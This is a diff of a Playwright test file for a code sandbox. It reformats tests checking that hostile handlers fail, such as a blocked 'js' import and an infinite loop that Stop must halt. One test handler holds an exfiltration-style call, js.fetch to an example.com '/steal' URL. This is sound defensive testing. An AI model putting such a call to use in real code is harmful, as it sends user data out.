@@ -29,9 +29,12 @@ test.describe('the sandbox holds against hostile handlers', () => {
     await studio.replaceCode(handler('import js', 'js.fetch("https://example.com/steal")'));
     await studio.run();
     await expect(
-      studio.runResult.getByText("ModuleNotFoundError: No module named 'js' (not available in the Event Studio sandbox)", {
-        exact: true,
-      }),
+      studio.runResult.getByText(
+        "ModuleNotFoundError: No module named 'js' (not available in the Event Studio sandbox)",
+        {
+          exact: true,
+        },
+      ),
     ).toBeVisible();
     await runsNormallyAfterwards(studio);
   });
@@ -92,7 +95,10 @@ test.describe('the sandbox holds against hostile handlers', () => {
     await runsNormallyAfterwards(studio);
   });
 
-  test('`while True: pass` stops on Stop, and the editor stays responsive meanwhile', async ({ studio, page }) => {
+  test('`while True: pass` stops on Stop, and the editor stays responsive meanwhile', async ({
+    studio,
+    page,
+  }) => {
     await studio.replaceCode(handler('', 'while True:', '    pass'));
     await studio.testPanel.getByRole('button', { name: 'Run', exact: true }).click();
     const stop = studio.testPanel.getByRole('button', { name: 'Stop' });
